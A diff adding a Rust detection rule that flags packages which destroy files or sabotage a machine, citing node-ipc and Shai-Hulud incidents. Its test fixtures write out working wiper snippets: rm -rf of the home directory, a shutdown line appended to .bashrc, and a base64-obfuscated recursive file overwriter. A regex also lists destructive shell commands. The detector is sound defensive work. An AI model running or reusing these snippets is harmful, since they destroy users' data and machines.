@@ -1,0 +1,114 @@
+//! Rule `destructive-fs`.
+
+use crate::model::Severity;
+use crate::package::Package;
+use crate::rules::{Emitter, all_text, code_files, find_text, is_doc_path};
+
+crate::declare_rule! {
+    /// Wipes or sabotages the user's files or machine: `rm -rf ~`/`$HOME`/`/`, `shred`,
+    /// `del /s /q`, `cipher /w`, recursive removal of the home directory from code, overwriting
+    /// every file found while walking parent directories, shutdown lines appended to shell rc
+    /// files.
+    id: "destructive-fs",
+    category: Other,
+    severity: High,
+    capability: Some(crate::model::Capability::FilesystemWrite),
+    title: "destroys files or sabotages the machine",
+    incident: "node-ipc 10.1.1 (2022) overwrote every file for Russian/Belarusian IPs; Shai-Hulud 2 wiped $HOME; Nx appended shutdown to .bashrc",
+    case_file: "index.js",
+    flag: ["execSync('rm -rf ~/*')", "fs.rmSync(os.homedir(), { recursive: true, force: true })",
+           "fs.appendFileSync(path.join(os.homedir(), '.bashrc'), '\\nsudo shutdown -h 0\\n')",
+           "const a = require('fs'); function h(d){ for (const e of a.readdirSync(d)) { const p = d + '/' + e; if (a.lstatSync(p).isDirectory()) h(p); else a.writeFile(p, 'x', () => {}) } } h(Buffer.from('Li4vLi4v', 'base64').toString()); h(Buffer.from('Lw==', 'base64').toString())",
+           "function walk(d){ for (const e of fs.readdirSync(d)) { const p = d + '/' + e; if (fs.statSync(p).isDirectory()) walk(p); else fs.writeFileSync(p, '\\u2764') } } ['./', '../', '../../', '/'].forEach(walk)"],
+    pass: ["fs.rmSync(path.join(tmp, 'build'), { recursive: true })", "// never run rm -rf / on a machine"],
+}
+
+fn check(pkg: &Package, out: &mut Emitter) {
+    let shell = crate::regex!(
+        r#"(?i)\brm\s+-[a-z]*r[a-z]*f?[a-z]*\s+(~|\$HOME|\$\{?HOME\}?|/\s|/\*|/['"`]|\.\./\.\.)|\bshred\s+-[a-z]*u|\bdel\s+/[fsq]\s+/[fsq]|\bcipher(\.exe)?\s+/w|\brd\s+/s\s+/q\s+[a-z]:\\|\bmkfs\.|\bdd\s+if=/dev/(zero|random)\s+of=/dev/|shutdown\s+-h\s+(0|now)|format\s+c:"#
+    );
+    let rc = crate::regex!(r"\.(bashrc|zshrc|bash_profile|profile)\b");
+    for f in code_files(pkg) {
+        if is_doc_path(&f.path) {
+            continue;
+        }
+        let comment = |o: u32| {
+            let o = o as usize;
+            let start = f.text[..o.min(f.text.len())]
+                .rfind('\n')
+                .map_or(0, |i| i + 1);
+            let line = f.text[start..].trim_start();
+            line.starts_with("//")
+                || line.starts_with('*')
+                || line.starts_with('#') && !line.starts_with("#!")
+        };
+        if let Some((off, m)) = find_text(f, shell).into_iter().find(|(o, _)| !comment(*o)) {
+            out.hit(pkg, f, off, format!("destructive command ({})", m.trim()));
+            continue;
+        }
+        let Some(js) = &f.js else { continue };
+        if let Some(c) = js.calls.iter().find(|c| {
+            matches!(
+                c.path.as_str(),
+                "fs.rmSync"
+                    | "fs.rm"
+                    | "fs.rmdirSync"
+                    | "fs.rmdir"
+                    | "fs/promises.rm"
+                    | "fs.promises.rm"
+                    | "rimraf"
+                    | "rimraf.sync"
+                    | "fs-extra.removeSync"
+                    | "fs-extra.remove"
+            ) && (c.arg_path(0).is_some_and(|p| {
+                p == "os.homedir" || p == "process.env.HOME" || p == "process.env.USERPROFILE"
+            }) || c
+                .arg_lit(0)
+                .is_some_and(|l| matches!(l, "/" | "~" | "C:\\" | "../" | "../../")))
+        }) {
+            out.hit(
+                pkg,
+                f,
+                c.off,
+                format!("removes the home directory or the root ({})", c.path),
+            );
+            continue;
+        }
+        let text = all_text(f);
+        if let Some(c) = js
+            .calls
+            .iter()
+            .find(|c| c.path.starts_with("fs.appendFile") || c.path.starts_with("fs.writeFile"))
+            && rc.is_match(&text)
+            && (text.contains("shutdown")
+                || text.contains("rm -rf")
+                || text.contains("curl")
+                || text.contains("wget"))
+        {
+            out.hit_sev(
+                Severity::Critical,
+                pkg,
+                f,
+                c.off,
+                "tampers with shell start-up files (.bashrc/.zshrc)",
+            );
+            continue;
+        }
+        let walks = js.calls.iter().any(|c| c.path.starts_with("fs.readdir"));
+        let writes = js.calls.iter().find(|c| c.path.starts_with("fs.writeFile"));
+        let derived = |w: &str| js.derived.iter().any(|(d, _)| d == w);
+        let climbs = text.contains("'../../'")
+            || text.contains("\"../../\"")
+            || text.contains("'../../../'")
+            || derived("../../");
+        let root = text.contains("'/'") || text.contains("\"/\"") || derived("/");
+        if let (true, Some(w), true, true) = (walks, writes, climbs, root) {
+            out.hit(
+                pkg,
+                f,
+                w.off,
+                "walks parent directories up to the root and overwrites the files it finds",
+            );
+        }
+    }
+}
